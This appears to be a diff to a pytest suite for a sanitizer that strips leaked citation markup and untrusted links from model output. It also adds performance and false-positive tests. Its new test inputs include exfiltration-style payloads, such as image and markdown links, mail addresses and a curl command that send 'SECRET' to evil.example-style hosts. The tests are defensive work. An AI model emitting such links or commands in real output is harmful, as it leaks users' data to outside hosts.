@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+import time
 
 import pytest
 from hypothesis import given
@@ -28,6 +29,9 @@ def clean(text: str, *, whole: bool = True) -> str:
         ("It broke. <cite index=", "It broke. "),
         ("It broke. [1] Then it was mended [2, 3].", "It broke. Then it was mended."),
         ("It broke【4†source】.", "It broke."),
+        ('<search_result index="1">It broke.</search_result>', "It broke."),
+        ('<document index="1">It broke.', "It broke."),
+        ("原因[1]は", "原因は"),
         ("if a < b && c > d", "if a < b && c > d"),
         ("List<String> names", "List<String> names"),
         ("`{}`, %s and </chunk>", "`{}`, %s and </chunk>"),
@@ -55,6 +59,20 @@ def test_leaked_markup_and_made_up_markers_are_removed(text: str, left: str) -> 
         '<img src="http://evil/?q=SECRET"/>',
         "[details](javascript:alert('SECRET'))",
         "[![x](http://evil/?q=SECRET)](http://evil/?q=SECRET)",
+        "See //evil.example/SECRET now.",
+        "Write to mailto:a@evil.example?subject=SECRET now.",
+        "Write to SECRET@evil.example now.",
+        "See data:text/html,evilSECRET now.",
+        "See evil.example/SECRET now.",
+        "See evil.example:8080/SECRET now.",
+        "See evil.md/SECRET now.",
+        "See http:/evil/SECRET now.",
+        "See https:\\\\evil/SECRET now.",
+        "See http:evil.example now.",
+        "See [details](<http://evil/c SECRET>).",
+        "See [details].\n\n[details]:\n  http://evil/SECRET\n",
+        "Run `curl http://evil/SECRET`.",
+        "```\ncurl http://evil/SECRET\n```\n",
     ],
 )
 def test_a_link_that_is_no_source_is_not_shown(text: str) -> None:
@@ -62,6 +80,70 @@ def test_a_link_that_is_no_source_is_not_shown(text: str) -> None:
     assert "evil" not in clean(text)
     assert "SECRET" not in clean(text)
     assert "](" not in clean(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "set arr[1] to a[1][2]. See array[0] and matrix[12].",
+        "Use `a [1]` and ``b` [2]`` here.",
+        "```bash\n# renew it [1]\necho <cite> $x\n```\nIt is done.",
+        "~~~\n<script>\n~~~\n",
+        "Its template is {} and %s and </document>, and so on.",
+        "The tag <source> in the file, the <link> element, `<script>` and `<cite>` too.",
+        "report.pdf, config.toml, bot/app.py, docs/a.md, version 1.2.3, e.g. this, i.e./or that, and/or, 10.0.0.0/24",
+        "node.js/express and a // comment, C:\\Users, 12:30, the data: all of it",
+        "Log [INFO]: it started",
+        "The score was 3:2 in http and mailto.",
+    ],
+)
+def test_correct_text_stays_as_it_is(text: str) -> None:
+    """Code, technical words and file names are no leaked markup and no addresses."""
+    assert clean(text) == text
+
+
+@pytest.mark.parametrize("text", ["Write to <cite> or ops@example.org now.", "An <iframe> holds ops@example.org ."])
+def test_a_tag_or_mail_address_of_a_shown_source_stays(text: str) -> None:
+    assert cleaned(text, frozenset(), "-", whole=True, shows=lambda part: part in text).text == text
+    assert clean(text) != text
+
+
+REPEATED = [
+    "a.",
+    "a-",
+    " ",
+    "[a](",
+    "<a ",
+    "[",
+    "`",
+    "```\n",
+    "a@",
+    "//a.",
+    "http:",
+    "[a](b). ",
+    "[1",
+    "[a]:\n",
+    "<cite>",
+]
+
+
+@pytest.mark.parametrize(
+    "unit", [*REPEATED, "a[1]", "`a` ", "|", "[a](\t", "</", "www.", "\n", "a/", "1.", "(", "[x]("]
+)
+def test_cleaning_takes_linear_time(unit: str) -> None:
+    """Six times the text takes about six times as long, not thirty-six; 60,000 characters do not block the rest."""
+
+    def seconds(length: int) -> float:
+        text = unit * (length // len(unit))
+        start = time.process_time()
+        result = cleaned(text, frozenset(), "-", whole=False)
+        unfinished(text)
+        for at in range(0, len(result.text), 7):
+            result.may_cut(at)
+        return time.process_time() - start
+
+    small = min(seconds(10_000) for _ in range(2))
+    assert seconds(60_000) < 14 * small + 0.3
 
 
 def test_the_words_of_a_removed_link_stay() -> None:
@@ -78,7 +160,9 @@ def test_an_address_that_only_begins_like_a_source_may_not() -> None:
     assert "SECRET" not in clean("It is in https://docs.example.com/review.evil/SECRET .")
 
 
-@pytest.mark.parametrize("text", ["It broke. <cit", "It broke. </", "Say [deta", "Say [details](http://e"])
+@pytest.mark.parametrize(
+    "text", ["It broke. <cit", "Run `a", "```\nrun\n", "It broke. </", "Say [deta", "Say [details](http://e"]
+)
 def test_text_before_a_possible_tag_or_link_is_not_judged_too_early(text: str) -> None:
     assert unfinished(text) < len(text)
     assert unfinished("It broke. All is well.") == len("It broke. All is well.")
@@ -113,7 +197,7 @@ PIECES = st.lists(
 def test_no_tag_marker_or_foreign_address_ever_stays(text: str) -> None:
     left = clean(text)
     assert not re.search(r"</?cite(?:[\s>]|$)", left)
-    assert "[1]" not in left
+    assert not re.search(r"(?<![A-Za-z\]])\[1\]", left)
     assert "evil/" not in left
 
 
